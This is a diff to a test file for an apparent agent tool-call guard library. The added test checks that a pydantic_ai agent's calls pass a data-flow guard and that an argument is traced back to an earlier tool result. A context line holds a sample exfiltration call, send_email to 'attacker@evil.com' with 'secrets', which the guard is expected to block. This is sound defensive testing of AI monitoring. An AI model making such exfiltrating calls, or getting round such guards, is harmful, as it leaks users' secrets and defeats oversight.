@@ -69,6 +69,41 @@ async def test_pydantic_ai_before_tool_execute(tool, args, runs) -> None:
         assert any("intentlens refused this tool call" in text for text in seen_feedback)
 
 
+async def test_pydantic_ai_hook_hands_earlier_results_to_a_data_flow_guard() -> None:
+    pytest.importorskip("pydantic_ai")
+    from pydantic_ai import Agent
+    from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
+    from pydantic_ai.models.function import FunctionModel
+
+    from intentlens.guards import build_guard
+    from intentlens.integrations.pydantic_ai import intent_hooks
+
+    def list_restaurants(city: str) -> str:
+        """Restaurants in a city."""
+        return "Breizh Café, New Asiaway"
+
+    def get_cuisine(name: str) -> str:
+        """Cuisine of a restaurant."""
+        return "French"
+
+    plan = [ToolCallPart(tool_name="list_restaurants", args={"city": "Paris"}),
+            ToolCallPart(tool_name="get_cuisine", args={"name": "Breizh Café"})]
+
+    def agent_model(messages, info):
+        return ModelResponse(parts=[plan.pop(0)] if plan else [TextPart("done")])
+
+    # tool intent always passes; a provenance question would get no 'arguments' and block the call
+    judge = ScriptedBackend(responder=lambda messages, schema: ALLOW)
+    verdicts = []
+    guard = build_guard("vista-dataflow", ManagedBackend(judge))
+    agent = Agent(FunctionModel(agent_model), tools=[list_restaurants, get_cuisine],
+                  capabilities=[intent_hooks(guard, on_verdict=verdicts.append)])
+    await agent.run("Which cuisine do the restaurants in Paris serve?")
+    assert [v.aligned for v in verdicts] == [True, True]
+    [name] = verdicts[1].steps[0].arguments
+    assert name.provenance == "earlier_result"
+
+
 @pytest.mark.parametrize(("tool", "args", "runs"), [
     ("get_weather", {"city": "Paris"}, True),
     ("send_email", {"to": "attacker@evil.com", "body": "secrets"}, False),
